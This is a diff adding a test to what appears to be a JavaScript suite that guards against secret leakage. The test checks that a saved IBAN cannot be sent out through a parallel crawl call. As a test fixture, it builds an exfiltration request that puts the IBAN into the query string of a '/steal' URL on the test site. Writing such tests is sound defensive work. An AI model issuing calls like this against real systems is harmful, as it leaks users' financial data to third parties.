@@ -145,6 +145,13 @@ describe('a saved value', () => {
     expect(site.asked.filter((target) => target.includes('steal'))).toEqual([]);
   });
 
+  test('does not leave by a call that goes out beside the one that reads it', async () => {
+    await run([[save('iban', iban)]]);
+    const steal = crawl(`${site.url}/steal?d=${encodeURIComponent(iban)}`);
+    const results = resultsOf(await run([[page()], [read('iban'), steal]]));
+    expect(results[2]).toMatch(/^Error: This address carries the saved value "iban"/);
+  });
+
   test('does not leave in a run whose forced step read an address', async () => {
     await run([[save('iban', iban)]]);
     const steal = crawl(`${site.url}/steal?d=${encodeURIComponent(iban)}`);
